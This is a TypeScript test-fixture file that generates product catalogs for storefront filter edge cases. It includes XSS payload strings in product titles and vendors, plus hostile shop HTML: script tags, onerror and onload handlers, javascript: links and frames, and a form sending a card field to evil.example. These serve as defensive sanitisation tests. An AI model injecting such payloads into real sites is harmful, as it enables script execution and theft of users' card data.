// Small catalogs generated for edge-case stories. They go through the same engine as the demo
// catalog; only the data differs.
import { createEngine, type Catalog, type CatalogProduct } from '@pkg/engine';
import { createEngineHandlers } from '@pkg/engine/msw';

function product(i: number, fields: Partial<CatalogProduct>): CatalogProduct {
  return {
    id: String(i),
    handle: `product-${i}`,
    title: `Product ${i}`,
    vendor: 'Luma',
    productType: 'Tee',
    tags: [],
    bodyHtml: '',
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    publishedAt: '2026-01-01T00:00:00.000Z',
    images: [],
    collections: ['all'],
    rating: (i % 5) + 1,
    reviewCount: i % 7,
    sales: i * 3,
    options: [{ name: 'Size', values: ['S', 'M'] }],
    variants: [
      { id: `${i}01`, title: 'S', sku: `P${i}-S`, barcode: '', price: 10 + (i % 40), compareAtPrice: null, available: true, inventoryQuantity: 5, options: ['S'], weight: 200, image: null, fulfillmentService: 'manual' },
      { id: `${i}02`, title: 'M', sku: `P${i}-M`, barcode: '', price: 10 + (i % 40), compareAtPrice: null, available: i % 3 !== 0, inventoryQuantity: 2, options: ['M'], weight: 220, image: null, fulfillmentService: 'manual' },
    ],
    ...fields,
  };
}

const tree = [
  { filterOptionId: 'pf_v_vendor', filterType: 'vendor', displayType: 'list', selectType: 'multiple', label: 'Brand', position: 1, showSearchBoxFilterPC: true, showMoreType: 'viewmore' },
  { filterOptionId: 'pf_opt_size', filterType: 'option', displayType: 'box', selectType: 'multiple', label: 'Size', position: 2 },
  { filterOptionId: 'pf_p_price', filterType: 'price', displayType: 'range', selectType: 'multiple', label: 'Price', position: 3 },
] as Catalog['filterTree'];

export function engineHandlersFor(products: CatalogProduct[], filterTree = tree) {
  return createEngineHandlers(createEngine({ products, filterTree } as Catalog));
}

/** Every vendor and title is an XSS payload: the page must show them as inert text. */
export const hostilePayloads = [
  '<img src=x onerror="window.__pwned=1">',
  '"><script>window.__pwned=1</script>',
  '<svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '<a href="javascript:window.__pwned=1">click</a>',
  '{{constructor.constructor("window.__pwned=1")()}}',
];
export const hostileHandlers = () =>
  engineHandlersFor(hostilePayloads.map((p, i) => product(i + 1, { title: p, vendor: p, handle: `hostile-${i}` })));

/** One option with 1,000 values. */
export const thousandValueHandlers = () => engineHandlersFor(Array.from({ length: 1000 }, (_, i) => product(i + 1, { vendor: `Vendor ${String(i + 1).padStart(4, '0')}` })));

/** One option with 6,000 values (a brand per product): the long list renders virtually. */
export const sixThousandValueHandlers = () => engineHandlersFor(Array.from({ length: 6000 }, (_, i) => product(i + 1, { vendor: `Vendor ${String(i + 1).padStart(4, '0')}` })));

/**
 * Twelve tag options of 150 values each (a tree of many long lists): each list renders virtually,
 * and a list farther than a page height from the viewport renders only its tab stop.
 */
export const manyLongOptionsHandlers = () => {
  const products = Array.from({ length: 300 }, (_, i) => product(i + 1, { tags: Array.from({ length: 12 }, (_, o) => `f${o}:Value ${String(((i * 7 + o * 13) % 150) + 1).padStart(3, '0')}`) }));
  const filterTree = Array.from({ length: 12 }, (_, o) => ({ filterOptionId: `pf_t_f${o}`, filterType: 'tag', displayType: 'list', selectType: 'multiple', label: `Facet ${o + 1}`, position: o + 1, prefix: `f${o}:`, showMoreType: 'scrollbar', valueType: 'all' })) as Catalog['filterTree'];
  return engineHandlersFor(products, filterTree);
};

/**
 * A multi-level collection option of 50 collections with 3 tags each (200 entries, past the
 * long-list threshold): the tree renders virtually.
 */
export const longCollectionTreeHandlers = () => {
  const tags = ['Cotton', 'Linen', 'Wool'];
  const collections = Array.from({ length: 50 }, (_, i) => ({ id: String(2000 + i), handle: `collection-${i + 1}`, title: `Collection ${String(i + 1).padStart(2, '0')}`, description: '', image: null, sortOrder: i + 1, tags }));
  const products = Array.from({ length: 150 }, (_, i) => product(i + 1, { collections: ['all', collections[i % 50]!.handle], tags: [tags[i % 3]!] }));
  const filterTree = [{ filterOptionId: 'pf_c_collection', filterType: 'collection', displayType: 'multi_level_collections', selectType: 'single', label: 'Collection', position: 1, showMoreType: 'scrollbar' }] as Catalog['filterTree'];
  return createEngineHandlers(createEngine({ products, collections, filterTree } as Catalog));
};

/** Right-to-left labels. */
export const rtlHandlers = () =>
  engineHandlersFor(['أزرق', 'أحمر', 'أخضر', 'כחול', 'אדום'].flatMap((v, i) => [product(i * 2 + 1, { vendor: v, title: `قميص ${v}` }), product(i * 2 + 2, { vendor: v, title: `חולצה ${v}` })]));

/** Very long labels. */
export const longLabelHandlers = () =>
  engineHandlersFor(
    Array.from({ length: 6 }, (_, i) =>
      product(i + 1, { vendor: `The Extraordinarily Long And Descriptive Outdoor Apparel Manufacturing Company Number ${i + 1} Limited`, title: `An exceptionally long product title that keeps going to test wrapping in every layout ${i + 1}` }),
    ),
  );

/**
 * Shop HTML that tries every way in: a script, inline handlers, `javascript:` links and frames,
 * a form, a style attribute. Allowed markup (paragraphs, strong, lists, an https link) is mixed in.
 */
export const hostileShopHtml = [
  '<p>Soft <strong>organic</strong> cotton. <a href="https://luma.example/care" target="_blank">Care guide</a></p>',
  '<ul><li>Machine wash</li><li>Tumble dry low</li></ul>',
  '<script>window.__pwned=1</script>',
  '<img src="x" alt="Broken image" onerror="window.__pwned=1">',
  '<a href="javascript:window.__pwned=1">Script link</a>',
  '<a href="  JaVaScRiPt:window.__pwned=1">Mixed-case script link</a>',
  '<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>',
  '<iframe title="frame" src="javascript:window.__pwned=1"></iframe>',
  '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
  '<p style="background:url(javascript:window.__pwned=1)" onclick="window.__pwned=1">Styled paragraph</p>',
  '<img src="data:image/svg+xml,%3Csvg onload=%22window.__pwned=1%22/%3E" alt="Data image">',
].join('\n');

/** One product whose description is {@link hostileShopHtml}; one with no image at all. */
export const shopHtmlHandlers = () =>
  engineHandlersFor([
    product(1, { title: 'Hostile description', handle: 'hostile-description', bodyHtml: hostileShopHtml }),
    product(2, { title: 'Plain Tee without a photo', handle: 'plain-tee', bodyHtml: '<p>No photo was uploaded for this tee.</p>' }),
  ]);
